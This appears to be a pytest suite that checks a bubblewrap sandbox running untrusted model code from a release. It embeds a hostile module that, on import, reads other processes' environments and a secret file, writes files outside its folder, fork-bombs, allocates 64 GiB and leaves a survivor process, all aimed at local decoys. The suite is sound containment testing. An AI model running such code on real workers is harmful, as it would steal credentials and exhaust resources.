"""A hostile release's modeling code, run the way a trusted org's is (the operators stage, its
remote-code sandbox): nothing it tries at import reaches the network, the worker's secrets, the
filesystem outside its folder, or outlives the stage; and where bubblewrap is missing the code is
refused, blamed on the infrastructure, and never run.

The release is a mirror folder with `auto_map` naming `modeling_hostile.py`, whose module code
attacks as it is imported, records what each attack got, and reports it by raising from its
model's constructor (the one channel the child has back: the stage's failure reason).
"""

from __future__ import annotations

import errno
import json
import os
import socket
import subprocess
import sys
import threading
import time
import uuid
from collections.abc import Iterator
from pathlib import Path

import pytest

from engine.contract import PoolSpec, ReleaseRef, StageContext, StageFailed
from engine.remote_code import bwrap
from engine.remote_code import sandbox as remote_code
from engine.stages.operators import run as operators
from tests.engine.stages.test_remote_code import (
    CONFIGURATION,
    FILES,
    LAYERS,
    MODELING,
    tiny_config,
)
from workers.failures import classify_stage_failed

REPO_ROOT = Path(remote_code.__file__).resolve().parents[2]
FORK_BOMB_CAP = 10_000  # children the bomb tries for; bounds it if the sandbox failed

HOSTILE = """
import json, mmap, os, resource, socket, sys

from transformers import LlamaForCausalLM

from .configuration_day0tiny import Day0TinyConfig

SETUP = json.loads({setup!r})
REPORT = {{}}


def attempt(name, action):
    try:
        REPORT[name] = {{"ok": True, "value": action()}}
    except BaseException as exc:
        REPORT[name] = {{"ok": False, "error": f"{{type(exc).__name__}}: {{exc}}"}}


def connect(port, payload):
    with socket.create_connection(("127.0.0.1", port), timeout=3) as conn:
        conn.sendall(payload)
        conn.settimeout(3)
        return conn.recv(200).decode("latin-1")


def environs():
    pids = {{str(SETUP["worker_pid"]), str(SETUP["decoy_pid"]), str(os.getppid()), "1"}}
    pids |= {{name for name in os.listdir("/proc") if name.isdigit()}}
    found = {{}}
    for pid in sorted(pids):
        try:
            with open(f"/proc/{{pid}}/environ", "rb") as fh:
                found[pid] = fh.read().decode("latin-1")
        except OSError as exc:
            found[pid] = f"unreadable: {{type(exc).__name__}}"
    return found


def read_secret_file():
    with open(SETUP["secret_file"]) as fh:
        return fh.read()


def write_outside():
    written = []
    for path in SETUP["outside"]:
        try:
            with open(path, "w") as fh:
                fh.write("escaped " + SETUP["token"])
            written.append(path)
        except OSError:
            pass
    return written


def fork_bomb():
    try:
        resource.setrlimit(resource.RLIMIT_NPROC, (resource.RLIM_INFINITY,) * 2)
        raised = "raised"
    except (ValueError, OSError) as exc:
        raised = f"{{type(exc).__name__}}: {{exc}}"
    children, stopped = [], None
    try:
        for _ in range(SETUP["fork_cap"]):
            pid = os.fork()
            if pid == 0:
                os._exit(0)  # a zombie until reaped: it still counts, and costs little
            children.append(pid)
    except OSError as exc:
        stopped = f"{{type(exc).__name__}}: {{exc}}"
    for pid in children:
        os.waitpid(pid, 0)
    return {{"forked": len(children), "stopped": stopped, "raise_limit": raised}}


def allocate():
    try:
        resource.setrlimit(resource.RLIMIT_AS, (resource.RLIM_INFINITY,) * 2)
    except (ValueError, OSError):
        pass
    # reserved, never touched: refused by RLIMIT_AS, and harmless if the limit failed
    block = mmap.mmap(-1, 64 * 1024**3)
    size = len(block)
    block.close()
    return size


def survivor():
    read_end, write_end = os.pipe()
    first = os.fork()
    if first == 0:
        os.setsid()
        if os.fork() == 0:
            os.close(read_end)
            os.write(write_end, str(os.getpid()).encode())
            os.close(write_end)
            script = (
                "import time\\ntime.sleep(4)\\ntry:\\n"
                f"    open({{SETUP['survivor_file']!r}}, 'w').write('survived')\\n"
                "except OSError:\\n    pass\\ntime.sleep(300)\\n"
            )
            os.execv(sys.executable, [sys.executable, "-c", script, SETUP["marker"]])
        os._exit(0)
    os.close(write_end)
    os.waitpid(first, 0)
    pid = int(os.read(read_end, 32))
    os.kill(pid, 0)  # alive (and signalable) while the child runs
    return pid


def user_namespace():
    import ctypes

    pid = os.fork()  # single-threaded, as unshare(CLONE_NEWUSER) wants
    if pid == 0:
        libc = ctypes.CDLL(None, use_errno=True)
        os._exit(0 if libc.unshare(0x10000000) == 0 else ctypes.get_errno())
    code = os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1])
    if code:
        raise OSError(code, os.strerror(code))
    return "created"


attempt("canary", lambda: connect(SETUP["canary_port"], b"escaped"))
attempt("redis", lambda: connect(6379, b"PING\\r\\n"))
attempt("postgres", lambda: connect(5432, bytes([0, 0, 0, 8, 4, 210, 22, 47])))
attempt("visible_pids", lambda: sorted(int(p) for p in os.listdir("/proc") if p.isdigit()))
attempt("environ", environs)
attempt("secret_file", read_secret_file)
attempt("write_outside", write_outside)
attempt("fork_bomb", fork_bomb)
attempt("allocate", allocate)
attempt("survivor", survivor)
attempt("user_namespace", user_namespace)


class Day0HostileForCausalLM(LlamaForCausalLM):
    config_class = Day0TinyConfig

    def __init__(self, config):
        raise RuntimeError("HOSTILE-REPORT " + json.dumps(REPORT))
"""


def hostile_config() -> dict:
    config = tiny_config("Day0HostileForCausalLM")
    config["auto_map"] = {
        "AutoConfig": "configuration_day0tiny.Day0TinyConfig",
        "AutoModelForCausalLM": "modeling_hostile.Day0HostileForCausalLM",
    }
    return config


def mirror_release(hub: Path, repo_id: str, config: dict, modeling: dict[str, str]) -> None:
    folder = hub / repo_id
    folder.mkdir(parents=True)
    (folder / "config.json").write_text(json.dumps(config))
    (folder / "configuration_day0tiny.py").write_text(CONFIGURATION)
    for name, text in modeling.items():
        (folder / name).write_text(text)


def context(hub: Path, repo_id: str, config: dict) -> StageContext:
    return StageContext(
        release=ReleaseRef("mirror", str(hub), repo_id, "main"),
        pool=PoolSpec(name="cpu", backend="cpu", queue="cpu", trust_remote_code_orgs=("acme",)),
        previous={"fetch": {"config": config}},
    )


class Canary:
    """A TCP listener on 127.0.0.1 counting the connections and bytes it receives."""

    def __init__(self) -> None:
        self.server = socket.create_server(("127.0.0.1", 0))
        self.port = self.server.getsockname()[1]
        self.connections = 0
        self.received = 0
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self) -> None:
        while True:
            try:
                conn, _ = self.server.accept()
            except OSError:
                return
            self.connections += 1
            with conn:
                conn.settimeout(5)
                try:
                    while data := conn.recv(4096):
                        self.received += len(data)
                except OSError:
                    pass

    def close(self) -> None:
        self.server.close()


@pytest.fixture
def canary() -> Iterator[Canary]:
    listener = Canary()
    yield listener
    listener.close()


@pytest.fixture
def secrets(monkeypatch) -> Iterator[dict[str, object]]:
    """Fake worker secrets: in this process's environment (what the child could inherit) and
    in the initial environment of a decoy process (what /proc/<pid>/environ shows)."""
    token = uuid.uuid4().hex
    values = {
        "DATABASE_URL": f"postgres://day0:db-{token}@127.0.0.1:5432/day0",
        "SECRET_KEY": f"secret-key-{token}",
        "HF_TOKEN": f"hf_{token}",
        "CELERY_BROKER_URL": f"redis://:broker-{token}@127.0.0.1:6379/14",
    }
    for name, value in values.items():
        monkeypatch.setenv(name, value)
    decoy = subprocess.Popen(["sleep", "600"], env={**os.environ, **values})
    environ = Path(f"/proc/{decoy.pid}/environ")
    for _ in range(100):  # the kernel shows it once exec has set the new stack up
        if values["SECRET_KEY"].encode() in environ.read_bytes():
            break
        time.sleep(0.05)
    yield {"values": values, "decoy_pid": decoy.pid}
    decoy.kill()
    decoy.wait()


def host_processes_naming(marker: str) -> list[int]:
    """The host's processes whose command line holds `marker`."""
    found = []
    for entry in Path("/proc").iterdir():
        try:
            if entry.name.isdigit() and marker.encode() in (entry / "cmdline").read_bytes():
                found.append(int(entry.name))
        except OSError:
            continue
    return found


@pytest.mark.slow  # builds scaled twins with torch in the sandbox
def test_a_hostile_release_is_contained_and_the_next_run_works(tmp_path, canary, secrets):
    token = uuid.uuid4().hex
    hub, outside = tmp_path / "hub", tmp_path / "outside"
    outside.mkdir()
    secret_file = outside / "worker-secret.txt"
    secret_file.write_text(f"secret-{token}")
    targets = [
        outside / f"escaped-{token}",
        REPO_ROOT / f"escaped-{token}",
        REPO_ROOT / "engine" / f"escaped_{token}.py",
        Path(sys.prefix) / f"escaped-{token}.pth",
        hub / "acme" / "hostile-1" / f"escaped-{token}",
        Path("/tmp") / f"day0-escaped-{token}",  # the sandbox's /tmp is its own tmpfs
        Path(bwrap.CODE_DIR) / f"escaped-{token}",
    ]
    survivor_file = outside / f"survivor-{token}"
    setup = {
        "token": token,
        "marker": f"day0-survivor-{token}",
        "canary_port": canary.port,
        "worker_pid": os.getpid(),
        "decoy_pid": secrets["decoy_pid"],
        "secret_file": str(secret_file),
        "outside": [str(path) for path in targets],
        "survivor_file": str(survivor_file),
        "fork_cap": FORK_BOMB_CAP,
    }
    config = hostile_config()
    mirror_release(
        hub,
        "acme/hostile-1",
        config,
        {"modeling_hostile.py": HOSTILE.format(setup=json.dumps(setup))},
    )
    # the secrets are there to be stolen: this process can read the decoy's
    decoy_environ = Path(f"/proc/{secrets['decoy_pid']}/environ").read_bytes().decode()
    assert secrets["values"]["SECRET_KEY"] in decoy_environ

    try:
        with pytest.raises(StageFailed) as failed:
            operators.run(context(hub, "acme/hostile-1", config))
    finally:  # 0 files outside; were the sandbox broken, none left in the repository either
        escaped = [path for path in targets if path.exists()]
        for path in escaped:
            path.unlink()
        assert escaped == []
    reason = failed.value.reason
    # 0 processes left, right after the stage (the survivor was alive inside: it signalled it)
    assert host_processes_naming(setup["marker"]) == []
    assert "HOSTILE-REPORT " in reason, reason
    report = json.loads(reason.split("HOSTILE-REPORT ", 1)[1])

    # no network: 0 connections and 0 bytes at the canary; Redis and PostgreSQL unreachable
    assert (canary.connections, canary.received) == (0, 0)
    for name in ("canary", "redis", "postgres"):
        assert report[name]["ok"] is False, report[name]
    # 0 secrets in anything it returned, and none of the worker's files read
    for value in [*secrets["values"].values(), f"secret-{token}"]:
        assert value not in reason
    assert report["secret_file"]["ok"] is False
    environ = report["environ"]["value"]
    for pid in (os.getpid(), secrets["decoy_pid"]):  # not in its PID namespace
        assert environ[str(pid)].startswith("unreadable"), environ
    assert report["visible_pids"]["value"][0] == 1 and len(report["visible_pids"]["value"]) <= 3
    # 0 files outside its work folder
    assert report["write_outside"]["value"] == [str(Path("/tmp") / f"day0-escaped-{token}")]
    # the fork bomb stopped at the process limit, which it could not raise
    bomb = report["fork_bomb"]["value"]
    assert bomb["forked"] < remote_code.default_process_limit() < FORK_BOMB_CAP, bomb
    assert "Resource temporarily unavailable" in bomb["stopped"]
    assert bomb["raise_limit"].startswith("ValueError"), bomb
    # 64 GiB refused by the memory limit
    assert report["allocate"]["ok"] is False
    assert "Cannot allocate memory" in report["allocate"]["error"]
    assert report["survivor"]["ok"] is True, report["survivor"]
    # no user namespace of its own, where it would hold every capability
    assert report["user_namespace"] == {
        "ok": False,
        "error": "PermissionError: [Errno 1] Operation not permitted",
    }

    # the next sandboxed run works (and gives the survivor, were it alive, time to write)
    mirror_release(
        hub,
        "acme/tiny-1",
        tiny_config(),
        {"modeling_day0tiny.py": MODELING, "layers_day0tiny.py": LAYERS},
    )
    result = operators.run(context(hub, "acme/tiny-1", tiny_config()))
    assert result["twin"]["code_source"] == "remote" and result["missing"] == []
    assert not survivor_file.exists()
    assert host_processes_naming(setup["marker"]) == []


@pytest.mark.slow  # builds scaled twins with torch in the sandbox
def test_a_worker_that_is_not_root_runs_the_child_in_a_user_namespace(monkeypatch):
    # bwrap maps this worker's uid to nobody (as root here that is uid 0 outside, which the
    # kernel exempts from RLIMIT_NPROC: why a root worker runs it without a user namespace)
    monkeypatch.setattr(bwrap, "runs_as_root", lambda: False)
    with pytest.raises(StageFailed) as failed:
        remote_code.run_sandboxed(
            "twin",
            tiny_config("Day0NosyForCausalLM"),
            FILES,
            PoolSpec("cpu", "cpu", "cpu"),
            org="acme",
            process_limit=300,
        )
    seen = json.loads(failed.value.reason.split("RuntimeError: ", 1)[1])
    assert (seen["uid"], seen["gid"], seen["cwd"]) == (65534, 65534, "/sandbox/work")
    assert seen["no_new_privs"] == ["1"] and seen["rlimit_nproc"] == [300, 300]
    assert seen["pids"][0] == 1 and len(seen["pids"]) <= 4, seen["pids"]
    assert seen["unshare_user"] == errno.EPERM


WRITES_EVERYWHERE = (
    MODELING
    + """

class Day0WriterForCausalLM(Day0TinyForCausalLM):
    def __init__(self, config):
        import json, os

        wrote = {{}}
        for folder in {folders!r}:
            path = os.path.join(folder, "day0-written")
            try:
                with open(path, "w") as fh:
                    fh.write("x")
                os.unlink(path)
                wrote[folder] = "written"
            except OSError as exc:
                wrote[folder] = exc.strerror
        raise RuntimeError(json.dumps(wrote))
"""
)


@pytest.mark.slow  # builds scaled twins with torch in the sandbox
@pytest.mark.parametrize("as_root", [True, False], ids=["root-worker", "user-namespace"])
def test_the_sandbox_writes_only_its_tmp_and_work_folder(monkeypatch, as_root):
    """With a user namespace the sandbox's uid owns the tmpfs root and /dev that bwrap builds:
    unless they are read-only, writing there is memory no limit counts."""
    monkeypatch.setattr(bwrap, "runs_as_root", lambda: as_root)
    writable = ["/tmp", bwrap.WORK_DIR]
    refused = ["/", "/etc", "/sandbox", "/dev", "/dev/shm", str(REPO_ROOT / "engine")]
    # A checkout under /tmp (a CI clone) is a folder of the sandbox's own /tmp there, where a
    # write lands in the private tmpfs; elsewhere it is the tmpfs root's, read-only.
    if not REPO_ROOT.is_relative_to("/tmp"):
        refused.append(str(REPO_ROOT))
    files = {
        **FILES,
        "modeling_day0tiny.py": WRITES_EVERYWHERE.format(folders=writable + refused).encode(),
    }
    with pytest.raises(StageFailed) as failed:
        remote_code.run_sandboxed(
            "twin",
            tiny_config("Day0WriterForCausalLM"),
            files,
            PoolSpec("cpu", "cpu", "cpu"),
            org="acme",
        )
    wrote = json.loads(failed.value.reason.split("RuntimeError: ", 1)[1])
    assert {folder: wrote[folder] for folder in writable} == dict.fromkeys(writable, "written")
    for folder in refused:
        assert wrote[folder] in ("Read-only file system", "Permission denied"), (folder, wrote)


WRITES_AT_IMPORT = """
from pathlib import Path

from transformers import LlamaForCausalLM

from .configuration_day0tiny import Day0TinyConfig

Path({marker!r}).write_text("ran")


class Day0TinyForCausalLM(LlamaForCausalLM):
    config_class = Day0TinyConfig
"""


@pytest.mark.parametrize("bwrap_kind", ["missing", "no-namespaces"])
def test_without_a_working_bubblewrap_remote_code_is_refused_unrun(
    tmp_path, monkeypatch, bwrap_kind
):
    marker = tmp_path / "the-code-ran"
    if bwrap_kind == "missing":
        monkeypatch.setenv(bwrap.BWRAP_ENV, str(tmp_path / "no-such-bwrap"))
        said = f"bubblewrap ('{tmp_path / 'no-such-bwrap'}', set by DAY0_BWRAP) is not installed"
    else:
        fake = tmp_path / "bwrap"
        fake.write_text(
            "#!/bin/sh\necho 'bwrap: No permissions to create new namespace, likely because "
            "the kernel does not allow non-privileged user namespaces.' >&2\nexit 1\n"
        )
        fake.chmod(0o755)
        monkeypatch.setenv(bwrap.BWRAP_ENV, str(fake))
        said = f"bubblewrap ({fake}) cannot confine a process on this worker (exit code 1): "
        said += "bwrap: No permissions to create new namespace"
    hub = tmp_path / "hub"
    mirror_release(
        hub,
        "acme/tiny-1",
        tiny_config(),
        {
            "modeling_day0tiny.py": WRITES_AT_IMPORT.format(marker=str(marker)),
            "layers_day0tiny.py": LAYERS,
        },
    )
    with pytest.raises(StageFailed) as failed:
        operators.run(context(hub, "acme/tiny-1", tiny_config()))
    reason = failed.value.reason
    assert reason.startswith(f"the release's modeling code was not run: {said}"), reason
    assert not marker.exists()
    # the worker files it as the infrastructure's failure, not the release's
    verdict = classify_stage_failed(
        stage="operators", reason=reason, result=failed.value.result, limit_s=600, ran_s=1
    )
    assert verdict.failure_class == "infrastructure"
    assert failed.value.result["failure"]["culprit"] == "infrastructure"


def test_a_checkout_under_tmp_stays_visible_inside_the_sandbox(monkeypatch, tmp_path):
    """A CI clone lives in `mktemp -d` (under /tmp): the private /tmp is mounted before the
    binds, so a venv or engine/ under /tmp is bound on top of it, not hidden by it."""
    from engine.remote_code import bwrap as sandbox_args

    venv = "/tmp/ci-clone/.venv"
    monkeypatch.setattr(sandbox_args, "python_roots", lambda: [venv])
    args = sandbox_args.command(
        bwrap="bwrap", code_dir=str(tmp_path), work_dir=str(tmp_path), etc_dir=str(tmp_path),
        repo_root=Path("/tmp/ci-clone"), env={}, backend="cpu", tmp_bytes=2**20,
        as_root=True, seccomp_fd=None, argv=["/bin/true"],
    )  # fmt: skip
    tmpfs = args.index("--tmpfs")
    assert args[tmpfs + 1] == "/tmp"
    binds = [i for i, a in enumerate(args) if a == "--ro-bind" and args[i + 2].startswith("/tmp/")]
    assert {args[i + 2] for i in binds} == {venv, "/tmp/ci-clone/engine"}
    assert all(i > tmpfs for i in binds)
